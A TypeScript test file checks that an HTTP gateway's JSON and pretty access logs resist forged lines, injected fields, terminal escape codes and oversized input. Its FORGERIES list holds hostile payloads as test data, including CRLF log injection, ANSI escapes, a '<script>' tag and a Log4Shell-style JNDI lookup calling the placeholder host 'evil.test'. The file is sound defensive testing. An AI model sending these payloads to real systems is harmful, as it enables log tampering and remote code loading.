import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import type { GatewayServerConfig } from '@gatewright/gateway'
import { fakeUpstream, rawClient } from '@gatewright/testing'
import { startGateway } from '../support/start-gateway.js'

/** What would forge a line, a field or a colour, as text in Latin-1. */
const FORGERIES = [
  '\n{"level":"info","status":200}',
  '\r\n{"level":"info"}',
  '","status":200,"x":"',
  '\x1b[31mred\x1b[0m',
  '\x1b]0;title\x07',
  '\x9b31m',
  '\x00',
  '\x08\x08\x08',
  '\x7f',
  '\xc2\x85',
  '\xc2\x9b31m',
  '\xe2\x80\xa8',
  '\xe2\x80\xae',
  '%0a%0d',
  '%1b[31m',
  '$'.concat('{jndi:ldap://evil.test/a}'),
  '<script>'
]

const REQUESTS = FORGERIES.flatMap((text) => [
  `GET /path${text} HTTP/1.1\r\nHost: a\r\n`,
  `GET /ok?query=${text} HTTP/1.1\r\nHost: a\r\n`,
  `GET http://a${text}/ HTTP/1.1\r\nHost: a\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a${text}\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a\r\nUser-Agent: ${text}\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a\r\nX-Request-Id: ${text}\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${text}\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a\r\nConnection: authorization${text}\r\n`,
  `GET /ok HTTP/1.1\r\nHost: a\r\nX_${text}: b\r\n`,
  `G${text}T /ok HTTP/1.1\r\nHost: a\r\n`
])

/** Everything that is logged while the nasty requests are made, half of them with an upstream that answers nonsense. */
async function logOf(t: TestContext, format: 'json' | 'pretty'): Promise<string[]> {
  const written: string[] = []
  const destination = { write: (line: string) => written.push(line) }
  const accessLog: GatewayServerConfig['accessLog'] = { format, destination }
  const upstream = await fakeUpstream(t)
  const more = { accessLog, trustedProxies: ['127.0.0.1'] }
  const { gateway, port } = await startGateway(t, upstream.url, more)
  for (const request of REQUESTS) {
    if (written.length % 2 === 1) upstream.next({ raw: 'HTTP/1.1 2\x1b[31m\r\n\r\n', end: 'close' })
    const client = await rawClient(port, { t })
    await client.write(`${request}Connection: close\r\n\r\n`)
    await client.closed
  }
  await gateway.close()
  return written
}

test('every line of the JSON log is one object of one request, printable throughout', async (t) => {
  const written = await logOf(t, 'json')
  assert.ok(written.length > REQUESTS.length / 3)
  for (const line of written) {
    assert.match(line, /^[^\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]*\n$/)
    const fields = JSON.parse(line)
    assert.equal(fields.level, 'info')
    assert.equal(typeof fields.status, 'number')
    assert.match(fields.request_id, /^[\w.:+/=@-]{1,128}$/)
    assert.match(fields.host, /^[\w.[\]:-]*$/)
    // What the parser has refused has neither.
    assert.match(fields.path, fields.method === '' ? /^$/ : /^\/[\x21-\x7e]*$/)
    assert.equal(fields.client, '127.0.0.1')
  }
})

test('every line of the pretty log is one line, without colours that are not its own', async (t) => {
  const written = await logOf(t, 'pretty')
  assert.ok(written.length > REQUESTS.length / 3)
  for (const line of written)
    assert.match(line, /^ {2}\d{3} (?:[A-Z]+ +\S+| +) → \S+ [\d.]+ ms(?: \w+(?:: [^\p{C}]+)?)?\n$/u)
})

test('what a log line takes from a request is bounded', async (t) => {
  const written: string[] = []
  const upstream = await fakeUpstream(t)
  const { gateway, port } = await startGateway(t, upstream.url, {
    accessLog: { destination: { write: (line) => written.push(line) } },
    maxUrlSize: '1KiB'
  })
  const long = 'a'.repeat(12_000)
  for (const request of [
    `GET /${long} HTTP/1.1\r\nHost: a\r\n`,
    `GET /x%00${long} HTTP/1.1\r\nHost: a\r\n`,
    `GET / HTTP/1.1\r\nHost: ${long}.test/\r\n`,
    `GET / HTTP/1.1\r\nHost: a\r\nX_${long}: b\r\n`,
    `GET / HTTP/1.1\r\nHost: a\r\nConnection: x-forwarded-${long}\r\n`
  ]) {
    const client = await rawClient(port, { t })
    await client.write(`${request}\r\n`)
    await client.closed
  }
  await gateway.close()
  assert.equal(written.length, 5)
  for (const line of written) assert.ok(line.length < 3_000, line.slice(0, 400))
})
